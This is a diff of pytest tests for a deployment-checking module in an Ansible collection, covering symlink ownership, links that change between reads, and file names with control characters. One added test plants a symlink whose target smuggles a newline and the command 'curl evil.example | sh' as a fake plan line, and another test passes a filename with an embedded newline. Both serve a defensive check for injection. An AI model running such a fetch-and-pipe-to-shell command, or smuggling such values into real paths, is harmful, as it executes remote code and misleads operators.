@@ -17,6 +17,7 @@ from ansible_collections.flaskops.production.plugins.module_utils._doctor_files 
     Account,
     is_within,
     read_node,
+    resolve_safely,
     scan_tree,
 )
 
@@ -400,6 +401,31 @@ def test_an_environment_file_of_the_unit_is_not_read_through_a_users_link(shop, 
     assert said.startswith(f"{link} can't be copied: ") and "does not belong to the owner of the link" in said
 
 
+@pytest.mark.parametrize("behind", ["root's", "the user's"])
+def test_code_behind_a_users_link_must_be_that_users(shop, as_root, tmp_path, behind):
+    link = tmp_path / "current"
+    link.symlink_to(shop.code)
+    os.lchown(link, 4711, 4711)
+    if behind == "the user's":
+        os.chown(shop.code, 4711, 4711)
+    found = plan(shop(live=str(link), code=resolve_safely(str(link))), ROOT, set())
+    if behind == "the user's":
+        assert (found.obstacles, found.code) == ([], str(shop.code))
+        return
+    # Nothing is read behind it.
+    assert found.code == str(link)
+    assert found.obstacles[0] == (
+        f"The old deployment is not where it seems to be: {link} leads through a symbolic link to {shop.code}, which "
+        "does not belong to the owner of the link. Set adopt_from to its directory."
+    )
+
+
+def test_a_link_that_was_turned_since_the_host_was_read_is_in_the_way(shop, tmp_path):
+    (tmp_path / "current").symlink_to(tmp_path)
+    found = plan(shop(live=str(tmp_path / "current")), ROOT, set())
+    assert found.obstacles[0].startswith(f"{tmp_path}/current leads elsewhere than a moment ago")
+
+
 def test_a_link_that_stays_in_the_old_deployment_is_followed(shop):
     (shop.code / "conf").mkdir()
     (shop.code / "conf/env").write_text("A=1")
@@ -425,7 +451,7 @@ def test_what_another_tool_has_shared_already_is_not_copied_onto_itself(shop, tm
     assert (found.obstacles, found.moves) == ([], [])
 
 
-@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log"])
+@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nLOOK AT: b.log"])
 def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
     path = os.path.join(os.fsencode(shop.code), name)
     connection = sqlite3.connect(path)
@@ -434,6 +460,13 @@ def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
     connection.close()
     (said,) = plan(shop(), ROOT, set()).obstacles
     assert said.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in said
+
+
+def test_a_link_cannot_pass_for_a_line_of_the_plan(shop):
+    (shop.code / "uploads").mkdir()
+    (shop.code / "uploads/a").symlink_to("/nowhere\nLOOK AT: curl evil.example | sh")
+    (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
+    assert "\n" not in told and r"/nowhere\x0aLOOK AT: curl" in told
 
 
 def test_uploads_may_have_any_name(shop):
